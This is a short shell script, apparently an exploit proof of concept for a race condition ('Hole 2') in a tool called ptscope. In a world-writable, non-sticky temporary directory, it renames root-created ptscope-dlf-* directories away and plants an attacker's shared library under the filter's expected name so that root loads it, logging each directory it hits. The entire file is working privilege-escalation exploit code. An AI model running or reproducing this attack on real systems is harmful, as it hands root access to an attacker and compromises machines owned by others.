#!/bin/sh
# Hole 2: in TMPDIR (writable by everyone, not sticky), rename every ptscope-dlf-*
# directory root creates away and put one of ours in its place, holding our library
# under the filter's name, for SECONDS. Each directory seen is logged to LOG.
# Usage: swap_dlfilter_dir.sh TMPDIR EVIL_SO LOG SECONDS
tmp=$1 evil=$2 log=$3 secs=$4
end=$(( $(date +%s) + secs ))
while [ "$(date +%s)" -lt "$end" ]; do
  for d in "$tmp"/ptscope-dlf-*; do
    [ -d "$d" ] || continue
    case "$d" in *.gone) continue ;; esac
    [ -O "$d" ] && continue
    echo "$d" >> "$log"
    mv "$d" "$d.gone" 2>/dev/null || continue
    mkdir "$d" && cp "$evil" "$d/ptscope_dlfilter.so"
  done
done
